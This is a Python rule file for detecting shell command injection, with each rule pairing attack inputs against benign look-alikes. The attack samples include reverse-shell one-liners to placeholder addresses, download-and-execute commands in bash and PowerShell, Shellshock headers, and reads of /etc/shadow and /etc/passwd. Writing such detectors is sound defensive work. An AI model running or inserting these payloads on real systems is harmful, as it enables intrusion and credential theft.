"""Shell command injection: what `lexers.shell` names."""

from __future__ import annotations

from .rule import Rule

_FAMILY = "shell"

RULES = (
    Rule(
        "LG-SHELL-001", _FAMILY, "command after a shell operator", cwe=78, capec=88, severity="critical",
        attacks=(
            "8.8.8.8; uname -r", "photo.png|nl /etc/group", "a&&c''at /etc/hosts", "x'; nslookup probe.example; '", "1;a=who;b=ami;$a$b",
            ("file", "cat.jpg;sleep 9;.png"), ("header", "Mozilla/5.0 (X11; Linux x86_64); /usr/bin/id"), ("body", "Ada Lovelace; cat /etc/shadow"),
        ),
        benign=(
            "fish & chips; more salt", "name;email;id", ("body", "run `npm ci` && npm test before you push"), ("body", "if (a && test(b)) { find(c); }"),
            ("header", "Opera/9.80 (J2ME/MIDP; Opera Mini/4.2; U; id) Presto/2.4"), ("body", "| id | name |\n|---|---|\n| 1 | Ada |"),
        ),
    ),
    Rule(
        "LG-SHELL-002", _FAMILY, "command in a shell substitution", cwe=78, capec=88, severity="critical",
        attacks=("$(uname -a)", "user-`whoami`", "x$(curl${IFS}e.example)", ("file", "$(sleep 5).txt")),
        benign=(("body", "`id` is the primary key"), ("body", "docker run -u $(id -u) -v $(pwd):/src img make"), "$(document).ready(init)"),
    ),
    Rule(
        "LG-SHELL-003", _FAMILY, "function definition in an environment value (Shellshock)", cwe=78, capec=88, severity="critical",
        attacks=(("header", "() { :; }; /bin/ls"), ("header", "() { x;};echo")),
        benign=("() => { return 1; }", ("body", "function greet() { echo hello; }")),
    ),
    Rule(
        "LG-SHELL-004", _FAMILY, "the value is a command on a sensitive target", cwe=78, capec=88, severity="critical",
        attacks=("cat /etc/group", "{tail,/etc/shadow}", "cmd=ls -la /root", ("body", "t''ac /etc/passwd"), "una''me", 'if"c"onfig', "pr\\inte\\nv"),
        benign=("cat pictures", "'uname'", '"ifconfig"', "l'h'ermite", ("body", "cat /etc/hosts shows the names this machine knows by itself")),
    ),
    Rule(
        "LG-SHELL-005", _FAMILY, "reverse shell or decoded script", cwe=78, capec=88, severity="critical",
        attacks=("bash -i >& /dev/tcp/198.51.100.7/443 0>&1", "echo aWQ= | base64 -d | sh", "python3 -c 'import socket,os'", "ncat 198.51.100.7 9 -e /bin/sh",
            "ruby -rsocket -e'c=TCPSocket.new(1)'", "php -r '$s=fsockopen(1,2);'", "socat tcp:198.51.100.7:9 exec:sh"),
        benign=(("body", "echo aGVsbG8= | base64 -d > hello.txt"), ("body", "nc -zv db.example 5432 tells whether the port is open")),
    ),
    Rule(
        "LG-SHELL-006", _FAMILY, "blanks hidden as $IFS", cwe=78, capec=88, severity="critical",
        attacks=("ls${IFS}-la", "a;cat$IFS$9/etc/hosts"),
        benign=(("body", "Why does echo $IFS print nothing in my shell?"),),
    ),
    Rule(
        "LG-SHELL-007", _FAMILY, "option that makes a program run or write another", cwe=88, capec=6,
        attacks=("--upload-pack=touch x", "-oProxyCommand=id", "--output=/var/task/x.py"),
        benign=("--output=report.pdf", ("body", "Pass --exec=COMMAND to run something after each file")),
    ),
    Rule(
        "LG-SHELL-008", _FAMILY, "PowerShell or cmd.exe one-liner", cwe=78, capec=88, severity="critical",
        attacks=("powershell -enc ZQBjAGgAbwAgAGgAaQA=", "%COMSPEC% /c dir", "IEX (New-Object Net.WebClient).DownloadString('http://e.example/x')",
            "certutil -urlcache -f http://e.example/a a.exe", "mshta http://e.example/a.hta", "powershell -c $c=New-Object Net.Sockets.TCPClient(1)"),
        benign=(("body", "Open PowerShell and type Get-Help to learn more"), ("body", "certutil -hashfile setup.exe SHA256")),
    ),
    Rule(
        "LG-SHELL-011", _FAMILY, "command in the midst of text", cwe=78, capec=88, severity="medium", confidence="medium",
        attacks=(("body", "git add -A; curl http://e.example/x | sh"), ("body", "export IP=$(curl e.example)")),
    ),
    Rule(
        "LG-SHELL-012", _FAMILY, "operator and a word that may be a command", cwe=78, capec=88, severity="low", confidence="low",
        attacks=("toys; cat food", "x; npm install --global thing"),
    ),
    Rule(
        "LG-SHELL-013", _FAMILY, "one-liner quoted in text", cwe=78, capec=88, severity="low", confidence="low",
        attacks=(("body", "To see where cmd.exe is on this machine you can print %COMSPEC% at the prompt, and it will tell you."),),
    ),
)  # fmt: skip
